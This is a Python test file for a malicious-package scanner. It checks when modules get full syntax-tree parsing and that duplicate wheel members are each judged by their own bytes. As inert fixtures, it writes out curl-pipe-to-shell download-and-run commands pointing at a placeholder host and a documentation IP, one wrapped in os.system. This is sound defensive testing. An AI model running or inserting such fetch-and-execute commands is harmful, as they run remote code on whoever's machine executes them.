"""Which modules get the full syntax-tree analysis, and what a pre-check may leave out.

Payload text is inert (a `.invalid` host) and nothing is run: the scanner reads archives as bytes.
"""

from __future__ import annotations

import ast
import warnings
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from custody.scan import Scanner, ScanTask, Verdict
from custody.scan import collect as collect_module
from custody.scan.python_ast import within_prose
from tests.artifacts.builders import make_zip
from tests.scan.builders import DEFAULT_NAME, wheel_entries, write_sdist

PKG = DEFAULT_NAME
URL = "https://downloads.example.invalid/install.sh"
PADDING = "".join(f"\n\ndef helper_{i}(value):\n    return value * {i}\n" for i in range(150))
"""Past the small-module size, under which every module with a sink is parsed anyway."""

IN_DOCSTRING = f'''
import subprocess


def install(version):
    """Install a release.

    Example::

        curl -fsSL {URL} | sh
    """
    return subprocess.call(["pip", "install", version])
'''

IN_CODE = f'''
import subprocess


def install(version):
    """Install a release."""
    return subprocess.call(
"""curl -fsSL {URL} | sh""", shell=True)
'''


def parsed_modules(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str) -> list[str]:
    seen: list[str] = []
    real = collect_module.analyze_python

    def spy(source: bytes | str, file: str, *args: object, **kwargs: object) -> object:
        seen.append(file.rsplit("/", 1)[-1])
        return real(source, file, *args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(collect_module, "analyze_python", spy)
    files = {f"{PKG}/__init__.py": "", f"{PKG}/tool.py": source + PADDING}
    Scanner().scan_task(ScanTask(str(write_sdist(tmp_path, files))))
    return seen


def test_download_command_only_in_a_docstring_is_no_reason_to_parse(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert "tool.py" not in parsed_modules(tmp_path, monkeypatch, IN_DOCSTRING)


@pytest.mark.parametrize(
    "source",
    [
        IN_CODE,
        IN_DOCSTRING + "\n\ndef show():\n    return install.__doc__\n",
        IN_CODE.replace("return subprocess.call(\n", "command = (\n").replace(", shell=True)", ")"),
    ],
    ids=["string handed to a call", "docstring read back", "string assigned"],
)
def test_download_command_in_code_is_parsed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
) -> None:
    assert "tool.py" in parsed_modules(tmp_path, monkeypatch, source)


def _spans(source: bytes, needle: bytes) -> list[tuple[int, int]]:
    return [(source.index(needle), len(needle))]


def test_within_prose_uses_byte_offsets() -> None:
    source = 'def f():\n    """Caf\u00e9 \u2014 see curl x."""\n    return 1\n'.encode()
    assert within_prose(source, ast.parse(source), _spans(source, b"curl x"))
    assert not within_prose(source, ast.parse(source), _spans(source, b"return 1"))


def test_within_prose_distrusts_lone_carriage_returns() -> None:
    source = b'"""doc"""\rx = "curl y"\n'
    assert not within_prose(source, ast.parse(source.replace(b"\r", b"\n")), _spans(source, b"curl y"))


@given(st.lists(st.integers(min_value=0, max_value=3 * collect_module.HUGE_LINE), min_size=1, max_size=12))
def test_the_long_line_precheck_never_misses_a_long_line(lengths: list[int]) -> None:
    # it may say "maybe" for a file without one; it must never say "no" for a file with one
    raw = b"\n".join(b"x" * length for length in lengths)
    if max(lengths) > collect_module.HUGE_LINE:
        assert collect_module._may_have_huge_line(raw)
    if len(raw) <= collect_module.HUGE_LINE // 2 or max(lengths) < collect_module.HUGE_LINE // 2:
        assert not collect_module._may_have_huge_line(raw)


def test_each_of_two_members_of_one_path_is_judged_by_its_own_bytes(tmp_path: Path) -> None:
    # A test module that imports library code makes the pattern pass run on every module up
    # front; its results were kept by path, so a payload read first took the results of a
    # harmless copy of the same path read after it, and the wheel scanned clean.
    payload = b'import os\nos.system("curl http://192.0.2.1/x.sh | sh")\n'
    harmless = b"x = 1\n" + b"# padding\n" * 100  # larger: read after the payload
    entries = [*wheel_entries({f"{PKG}/tests/test_util.py": f"from {PKG} import util\n"}).items()]
    entries += [(f"{PKG}/util.py", payload), (f"{PKG}/util.py", harmless)]
    path = tmp_path / f"{PKG}-1.0.0-py3-none-any.whl"
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # zipfile: "Duplicate name"
        path.write_bytes(make_zip(entries))
    result = Scanner().scan_task(ScanTask(str(path)))[0]
    assert result.verdict is Verdict.MALICIOUS
    assert "raw-ip-url" in {f.rule for f in result.findings}  # the payload's own finding
